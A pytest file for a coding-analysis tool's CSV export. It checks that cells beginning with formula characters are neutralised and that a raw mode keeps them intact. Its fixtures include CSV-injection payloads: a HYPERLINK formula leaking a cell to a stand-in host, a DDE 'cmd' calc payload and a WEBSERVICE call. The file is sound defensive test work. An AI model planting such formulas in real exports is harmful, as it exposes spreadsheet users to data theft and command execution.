"""No CSV the tool writes makes a spreadsheet run document text, memos or names as formulas."""

from __future__ import annotations

import csv

from click.testing import CliRunner

from fieldnotes.cli import cli
from fieldnotes.files import FORMULA_STARTS, safe_cell, write_csv
from fieldnotes.pipeline import ingest_corpus
from fieldnotes.records import Suggestion
from fieldnotes.store import Store

TAIL = " was what the han leader wrote on the whiteboard after the monthly meeting of the members."
HOSTILE = [
    '=HYPERLINK("http://example.invalid/leak?d="&A2,"open")' + TAIL,
    "+SUM(1,2) for the han budget" + TAIL,
    "-2+3 members came to the meeting" + TAIL,
    "@SUM(A1:A9) on the board" + TAIL,
]


def test_every_formula_start_is_neutralised_and_plain_values_are_not() -> None:
    for start in FORMULA_STARTS:
        assert safe_cell(start + "x") == "'" + start + "x"
    for plain in ("The han meets", "", 0.5, -0.25, 3, None, "2024-10-14"):
        assert safe_cell(plain) == plain


def test_raw_writes_cells_as_they_are(tmp_path) -> None:
    rows = [{"text": HOSTILE[0]}]
    assert write_csv(tmp_path / "safe.csv", ["text"], rows) == 1
    assert write_csv(tmp_path / "raw.csv", ["text"], rows, raw=True) == 1
    read = {
        name: next(csv.DictReader((tmp_path / name).open(encoding="utf-8")))["text"] for name in ("safe.csv", "raw.csv")
    }
    assert read == {"safe.csv": "'" + HOSTILE[0], "raw.csv": HOSTILE[0]}


def test_a_hostile_corpus_leaves_no_formula_cell_in_any_csv(tmp_path, settings) -> None:
    corpus = tmp_path / "corpus"
    corpus.mkdir()
    (corpus / "notes.txt").write_text("\n\n".join(HOSTILE) + "\n", encoding="utf-8")
    out = tmp_path / "out"
    ingest_corpus(corpus, out, settings)
    with Store.open(out / "fieldnotes.db") as store:
        from fieldnotes.coding.excerpts import build_excerpts

        run_id = store.runs.begin("code", "", "", "{}", {})
        passages, sentences, texts = store.corpus.passages_with_sentences()
        excerpts = build_excerpts(passages, sentences, texts, 0)
        store.coding.save_excerpts(run_id, excerpts)
        store.coding.save_suggestions(
            run_id,
            "coproduction",
            [Suggestion(e.excerpt_id, "volunteering", 0.9, "rules", "=WEBSERVICE(1)", {}) for e in excerpts],
            set(),
        )
        store.decisions.record(excerpts[0].excerpt_id, "volunteering", "accepted", "=cmd|'/c calc'!A0", "@memo")
    result = CliRunner().invoke(cli, ["export", "--format", "csv", "--status", "all", "--out", str(out)])
    assert result.exit_code == 0, result.output
    written = [out / "passages.csv", out / "exports" / "coproduction-all.csv"]
    cells = [cell for path in written for row in csv.reader(path.open(encoding="utf-8")) for cell in row]
    assert any(cell.startswith("'=HYPERLINK") for cell in cells)
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    raw = CliRunner().invoke(
        cli,
        ["export", "--format", "csv", "--status", "all", "--raw", "--out", str(out), "-o", str(tmp_path / "raw.csv")],
    )
    assert raw.exit_code == 0, raw.output
    assert any(
        cell.startswith("=HYPERLINK")
        for row in csv.reader((tmp_path / "raw.csv").open(encoding="utf-8"))
        for cell in row
    )
